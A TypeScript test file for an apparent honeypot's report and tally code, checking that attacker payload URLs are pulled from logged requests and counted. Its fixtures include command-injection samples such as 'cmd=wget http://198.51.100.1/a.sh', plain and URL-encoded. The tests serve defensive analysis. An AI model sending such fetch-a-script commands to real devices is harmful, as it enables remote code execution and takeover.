import { describe, expect, it } from 'vitest';
import type { Fact, Observation } from '../core/observation.ts';
import { Report } from './report.ts';
import { Tally } from './tally.ts';

let sequence = 0;
const seen = (fact: Fact, source = '203.0.113.9', session = 's'): Observation => ({
  id: '00000000-0000-7000-8000-000000000000',
  at: 1_700_000_000_000 + (sequence += 1),
  sensor: 'decoy-1',
  sequence,
  source,
  sourcePort: 40_000,
  destination: '192.0.2.1',
  destinationPort: 80,
  transport: 'tcp',
  session,
  spoofable: false,
  ...fact,
});
const request = (path: string, body = ''): Fact => ({
  kind: 'request',
  service: 'http',
  method: 'POST',
  path,
  headers: [],
  body,
  status: 200,
});
const exploit = (detail: string, confidence?: number): Fact => ({
  kind: 'exploit',
  service: 'http',
  class: 'rce',
  name: 'a-router',
  cves: [],
  technique: 'T1190',
  detail,
  ...(confidence === undefined ? {} : { confidence }),
});

describe('a report', () => {
  it('finds addresses in requests, encoded too, and counts them once where the exploit names them again', () => {
    const report = new Report();
    report.add(seen(request('/x?cmd=wget+http%3A%2F%2F198.51.100.1%2Fa.sh')));
    report.add(seen(exploit('cmd=wget http://198.51.100.1/a.sh')));
    report.add(seen(exploit('http://198.51.100.2/b.sh'), '203.0.113.10', 'another'));
    expect(report.view(10).addresses).toEqual([
      { thing: { url: 'http://198.51.100.1/a.sh' }, count: 1, sources: 1 },
      { thing: { url: 'http://198.51.100.2/b.sh' }, count: 1, sources: 1 },
    ]);
  });

  it('names a weakness by its signature where it has no CVE, and leaves out what only looks for one', () => {
    const report = new Report();
    report.add(seen(exploit('id', 0.3)));
    expect(report.view(10).weaknesses).toEqual([]);
    report.add(seen(exploit('id')));
    expect(report.view(10).weaknesses.map(({ thing }) => thing.name)).toEqual(['a-router']);
  });

  it('takes what can’t be decoded as it is', () => {
    const report = new Report();
    report.add(seen(request('/%zz?u=http://198.51.100.3/c')));
    expect(report.view(10).addresses).toHaveLength(1);
  });
});

describe('a tally', () => {
  it('holds so many things and counts the sightings of the rest', () => {
    const tally = new Tally<number>(2);
    for (const number of [1, 2, 3, 2, 3, 2]) tally.add(String(number), `source-${number}`, () => number);
    expect(tally.most(5)).toEqual([
      { thing: 2, count: 3, sources: 1 },
      { thing: 1, count: 1, sources: 1 },
    ]);
    expect(tally.leftOut).toBe(2);
    expect(tally.most(1)).toHaveLength(1);
  });

  it('tells no more than a thousand sources apart', () => {
    const tally = new Tally<string>(1);
    for (let index = 0; index < 3_000; index += 1) tally.add('x', `source-${index}`, () => 'x');
    expect(tally.most(1)).toEqual([{ thing: 'x', count: 3_000, sources: 1_000 }]);
  });
});
